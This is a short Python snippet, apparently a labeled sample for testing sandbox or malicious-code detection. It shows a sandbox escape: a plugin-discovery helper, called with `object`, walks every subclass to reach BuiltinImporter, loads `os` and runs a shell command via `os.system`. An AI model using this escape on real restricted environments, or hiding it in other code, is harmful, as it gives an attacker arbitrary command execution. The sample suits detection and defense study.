# HARM: object-graph escape to os via BuiltinImporter -> os.system | TRICK: recursive walk(cls=Base) helper called with object instead of own class
class Base:
    pass


class Plugin(Base):
    pass


def walk(cls=Base):
    for sub in cls.__subclasses__():
        yield sub
        yield from walk(sub)


for c in walk(object):
    if c.__name__ == "BuiltinImporter":
        c.load_module("os").system("id")
